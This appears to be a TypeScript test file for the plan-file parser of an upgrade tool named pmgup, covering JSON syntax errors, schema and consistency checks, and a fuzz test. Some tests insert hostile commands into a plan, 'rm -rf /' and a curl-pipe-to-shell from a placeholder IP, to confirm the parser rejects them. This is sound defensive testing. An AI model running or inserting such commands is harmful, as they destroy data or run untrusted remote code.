import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { InputError } from '../../../lib/errors.js';
import type { Plan } from '../../../lib/plan/model.js';
import { parsePlan } from '../../../lib/planfile/parse.js';
import { serializePlan } from '../../../lib/planfile/serialize.js';
import { fullPlan } from './sample-plan.js';
import { TOOL_VERSION } from '../../../lib/version.js';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

/** Returns the InputError that parsing `text` raises. */
function parseError(text: string): InputError {
  try {
    parsePlan(text, 'plan.json');
  } catch (error) {
    assert.ok(error instanceof InputError, `expected InputError, got ${String(error)}`);

    return error;
  }
  assert.fail('the plan was accepted');
}

/** Serializes a fully valid plan after `edit` changed its JSON form, and returns the error of parsing it. */
function editedPlanError(edit: (plan: Json) => void): InputError {
  const plan = JSON.parse(serializePlan(fullPlan())) as Json;
  edit(plan);

  return parseError(JSON.stringify(plan, null, 2));
}

/** Returns `location: message` for each problem. */
function lines(error: InputError): string[] {
  return error.problems.map((p) => `${p.location}: ${p.message}`);
}

describe('planfile/parse', () => {
  describe('parsePlan()', () => {
    test('accepts a valid plan', () => {
      const plan = parsePlan(serializePlan(fullPlan()), 'plan.json');

      assert.equal(plan.actions.length, 22);
      assert.equal(plan.hosts[0]!.name, 'pmg1');
    });

    describe('JSON syntax', () => {
      test('truncated file is located at its end', () => {
        const text = serializePlan(fullPlan());
        for (const cut of [0, 1, 100, Math.floor(text.length / 2), text.length - 2]) {
          const error = parseError(text.slice(0, cut));
          const truncated = text.slice(0, cut);
          const line = truncated.split('\n').length;

          assert.match(error.message, /not valid JSON/);
          assert.match(
            error.problems[0]!.location,
            new RegExp(`^line ${line}, column \\d+$`),
            `cut at ${cut}`,
          );
          assert.match(
            error.problems[0]!.message,
            /unexpected end of the document|unterminated string/,
          );
        }
      });

      const cases: [string, string, string, RegExp][] = [
        [
          'trailing comma',
          '{\n  "a": 1,\n}',
          'line 3, column 1',
          /expected a property name in double quotes, found "}"/,
        ],
        ['bare word', '{"a": yes}', 'line 1, column 7', /expected a value, found "y"/],
        ['missing comma', '[1\n 2]', 'line 2, column 2', /expected ',' or ']', found "2"/],
        ['text after the end', '{}\n{}', 'line 2, column 1', /after the end of the document/],
        ['byte order mark', '\uFEFF{}', 'line 1, column 1', /byte order mark/],
        [
          'raw newline in a string',
          '{"a": "x\ny"}',
          'line 1, column 9',
          /control character U\+000A/,
        ],
        ['invalid escape', '{"a": "\\q"}', 'line 1, column 8', /invalid escape "\\\\q"/],
        ['leading zero', '[01]', 'line 1, column 3', /expected ',' or ']', found "1"/],
        [
          'duplicate property',
          '{"step": {"kind": "verify"},\n "step": {"kind": "backup"}}',
          'line 2, column 2',
          /duplicate property "step"/,
        ],
      ];
      for (const [name, text, location, message] of cases) {
        test(name, () => {
          const error = parseError(text);

          assert.equal(error.problems[0]!.location, location);
          assert.match(error.problems[0]!.message, message);
        });
      }

      test('deep nesting is an error, not a crash', () => {
        const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
        const error = parseError(deep);

        assert.match(lines(error)[0]!, /^\/: found an array/);
      });
    });

    describe('schema', () => {
      test('newer format version names both versions', () => {
        const error = editedPlanError((plan) => {
          plan.formatVersion = 3;
          plan.tool.version = '9.1.0';
        });

        assert.match(error.message, /newer pmgup/);
        assert.deepEqual(lines(error), [
          '/formatVersion: the plan has format version 3 (written by pmgup 9.1.0), but this pmgup reads format version 2',
        ]);
        assert.match(error.detail, /Upgrade pmgup to 9\.1\.0 or newer/);
      });

      test('newer format from this pmgup is an edit', () => {
        const error = editedPlanError((plan) => {
          plan.formatVersion = 3;
          plan.tool.version = TOOL_VERSION;
        });

        assert.equal(error.message, 'The plan file was edited');
        assert.deepEqual(lines(error), [
          `/formatVersion: the plan has format version 3 and names pmgup ${TOOL_VERSION}, this pmgup, as its writer, which writes format version 2`,
        ]);
        assert.doesNotMatch(error.detail, /Upgrade pmgup/);
      });

      test('older or odd format version is a schema error', () => {
        const error = editedPlanError((plan) => {
          plan.formatVersion = 0;
        });

        assert.deepEqual(lines(error), [
          '/formatVersion: found 0, expected one of 1 or 2',
        ]);
      });

      test('unknown step kind with a command', () => {
        const error = editedPlanError((plan) => {
          plan.actions[3].step = { kind: 'run', command: 'rm -rf /' };
        });

        assert.equal(error.problems.length, 1, lines(error).join('\n'));
        assert.equal(error.problems[0]!.location, '/actions/3/step/kind');
        assert.match(
          error.problems[0]!.message,
          /^found "run", expected one of "repair-dpkg", "backup", .* or "pin-interface-names"$/,
        );
      });

      test('extra command in a known step', () => {
        const error = editedPlanError((plan) => {
          plan.actions[17].step.command = 'rm -rf /';
        });

        assert.deepEqual(lines(error), [
          '/actions/17/step/command: unknown property (value "rm -rf /"). Known properties in /actions/17/step: kind',
        ]);
      });

      test('extra command on an action', () => {
        const error = editedPlanError((plan) => {
          plan.actions[0].command = 'curl http://203.0.113.9/x | sh';
        });

        assert.equal(error.problems[0]!.location, '/actions/0/command');
        assert.match(
          error.problems[0]!.message,
          /^unknown property \(value "curl .*"\)\. Known properties in \/actions\/0: id, host, reason,/,
        );
      });

      test('wrong step parameter is reported in its branch only', () => {
        const error = editedPlanError((plan) => {
          plan.actions[16].step.timeoutSeconds = 5;
          plan.actions[13].step.method = 'copy';
        });

        assert.deepEqual(lines(error), [
          '/actions/13/step/method: found "copy", expected one of "dump", "upgrade", "link" or "clone"',
          '/actions/16/step/timeoutSeconds: found 5, expected an integer from 30 to 7200',
        ]);
      });

      test('nested apt edit with an unknown op', () => {
        const error = editedPlanError((plan) => {
          plan.actions[3].step.edits[1] = { op: 'add-componnet', line: 1, component: 'x' };
        });

        assert.deepEqual(lines(error), [
          '/actions/3/step/edits/1/op: found "add-componnet", expected one of "replace-suite", "add-component", "replace-component", "disable" or "append-entry". Did you mean "add-component"?',
        ]);
      });

      test('checksum that is neither hex nor null', () => {
        const error = editedPlanError((plan) => {
          plan.actions[3].step.beforeSha256 = 'ABC';
        });

        assert.deepEqual(lines(error), [
          '/actions/3/step/beforeSha256: found a string "ABC", expected a SHA-256 of 64 lower-case hex digits or null',
        ]);
      });

      test('wrong types are each reported', () => {
        const error = editedPlanError((plan) => {
          plan.actions[0].downtime = 'yes';
          plan.actions[1].dependsOn = 'pmg1/repair-dpkg-0';
          plan.createdAt = 'yesterday';
          delete plan.diagnostics;
          plan.hosts[0].fingerprints['units[postfix.service]'] = 'changed';
        });

        assert.deepEqual(lines(error).sort(), [
          '/: missing required property "diagnostics"',
          '/actions/0/downtime: found a string "yes", expected a boolean (true or false)',
          '/actions/1/dependsOn: found a string "pmg1/repair-dpkg-0", expected an array',
          '/createdAt: found "yesterday", expected an RFC 3339 date-time such as 2026-12-01T10:00:00Z',
          '/hosts/0/fingerprints/units[postfix.service]: found "changed", expected a SHA-256 of 64 lower-case hex digits, or `absent`',
        ]);
      });

      test('not an object at all', () => {
        for (const text of ['null', '[]', '"plan"', '42']) {
          const error = parseError(text);

          assert.equal(error.problems.length, 1);
          assert.match(lines(error)[0]!, /^\/: found .*, expected an object$/);
        }
      });
    });

    describe('consistency', () => {
      test('format 1 plan still loads', () => {
        const legacy: Plan = { ...fullPlan(), formatVersion: 1, desiredState: { path: '/home/alice/repo/gw.toml', sha256: 'a'.repeat(64) } };
        const plan = parsePlan(serializePlan(legacy), 'old.plan.json');

        assert.equal(plan.formatVersion, 1);
        assert.deepEqual(plan.desiredState, legacy.desiredState);
      });

      test('absolute desired-state path in format 2', () => {
        const error = editedPlanError((plan) => {
          plan.desiredState.path = '/home/alice/repo/gw.toml';
        });

        assert.deepEqual(lines(error), [
          '/desiredState/path: "/home/alice/repo/gw.toml" is absolute, but a plan of format version 2 records a path relative to plan-file',
        ]);
      });

      test('duplicate action ids', () => {
        const error = editedPlanError((plan) => {
          plan.actions[5].id = plan.actions[4].id;
          plan.actions[6].dependsOn = [plan.actions[4].id];
        });

        assert.deepEqual(lines(error), [
          '/actions/5/id: action id "pmg1/edit-apt-sources-4" is listed twice, first at /actions/4/id',
        ]);
      });

      test('missing dependsOn target', () => {
        const error = editedPlanError((plan) => {
          plan.actions[2].dependsOn = ['pmg1/backup-1', 'pmg1/nothing-here'];
        });

        assert.deepEqual(lines(error), [
          '/actions/2/dependsOn/1: no action has the id "pmg1/nothing-here"',
        ]);
      });

      test('cycle is reported in full', () => {
        const error = editedPlanError((plan) => {
          plan.actions[2].dependsOn = ['pmg1/backup-1', 'pmg1/edit-apt-sources-4'];
        });

        assert.deepEqual(lines(error), [
          '/actions/2/dependsOn: dependency cycle: pmg1/fix-template-2 → pmg1/edit-apt-sources-4 → pmg1/edit-apt-sources-3 → pmg1/fix-template-2 (each action depends on the next)',
        ]);
      });

      test('self dependency is a cycle', () => {
        const error = editedPlanError((plan) => {
          plan.actions[0].dependsOn = ['pmg1/repair-dpkg-0'];
        });

        assert.deepEqual(lines(error), [
          '/actions/0/dependsOn: dependency cycle: pmg1/repair-dpkg-0 → pmg1/repair-dpkg-0 (each action depends on the next)',
        ]);
      });

      test('dependency listed later', () => {
        const error = editedPlanError((plan) => {
          plan.actions.unshift(plan.actions.pop());
        });

        assert.deepEqual(lines(error), [
          '/actions/0/dependsOn/0: "pmg1/early-upgrade-20" is listed after this action, at /actions/21. Actions must follow their dependencies',
        ]);
      });

      test('unknown hosts', () => {
        const error = editedPlanError((plan) => {
          plan.actions[0].host = 'pmg2';
          plan.diagnostics[0].host = 'pmg3';
        });

        assert.deepEqual(lines(error), [
          '/actions/0/host: host "pmg2" is not in /hosts',
          '/actions/0/id: the id "pmg1/repair-dpkg-0" names host "pmg1", but the action\'s host is "pmg2"',
          '/diagnostics/0/host: host "pmg3" is not in /hosts',
        ]);
      });

      test('duplicate host names', () => {
        const error = editedPlanError((plan) => {
          plan.hosts.push({ ...plan.hosts[0] });
        });

        assert.deepEqual(lines(error), [
          '/hosts/1/name: host "pmg1" is listed twice, first at /hosts/0/name',
        ]);
      });

      test('fingerprint key without a fingerprint', () => {
        const error = editedPlanError((plan) => {
          plan.actions[4].fingerprintKeys.push('apt.files[/etc/apt/sources.list]');
        });

        assert.deepEqual(lines(error), [
          '/actions/4/fingerprintKeys/2: the fact "apt.files[/etc/apt/sources.list]" has no fingerprint in /hosts/0/fingerprints, so a changed host could not be detected',
        ]);
      });

      test('errored must match error diagnostics', () => {
        const error = editedPlanError((plan) => {
          plan.diagnostics[0].severity = 'error';
        });

        assert.deepEqual(lines(error), [
          '/errored: is false, but /diagnostics/0 is an error',
          '/applyable: is true, but the plan has an error diagnostic',
        ]);
      });

      test('applyable needs actions', () => {
        const error = editedPlanError((plan) => {
          plan.actions = [];
        });

        assert.deepEqual(lines(error), [
          '/applyable: is true, but the plan has 0 actions and no error diagnostic',
        ]);
      });

      test('consistent errored plan is accepted', () => {
        const plan = fullPlan();
        plan.diagnostics[0]!.severity = 'error';
        plan.errored = true;
        plan.applyable = false;

        assert.equal(parsePlan(serializePlan(plan), 'plan.json').errored, true);
      });
    });

    test('random damage never escapes as another error', () => {
      const text = serializePlan(fullPlan());
      let seed = 12345;
      const random = (limit: number) => {
        seed = (seed * 1103515245 + 12345) % 2 ** 31;

        return seed % limit;
      };
      const alphabet = '{}[]":,0123456789abcdefnulltrue \n\\-';

      let rejected = 0;
      for (let round = 0; round < 400; round += 1) {
        const chars = [...text];
        for (let edits = 1 + random(3); edits > 0; edits -= 1) {
          chars[random(chars.length)] = alphabet[random(alphabet.length)]!;
        }
        try {
          parsePlan(chars.join(''), 'fuzz.json');
        } catch (error) {
          assert.ok(error instanceof InputError, `round ${round}: ${String(error)}`);
          assert.ok(error.problems.length > 0);
          rejected += 1;
        }
      }

      assert.ok(rejected > 300, `only ${rejected} of 400 damaged plans were rejected`);
    });
  });
});

export type { Plan };
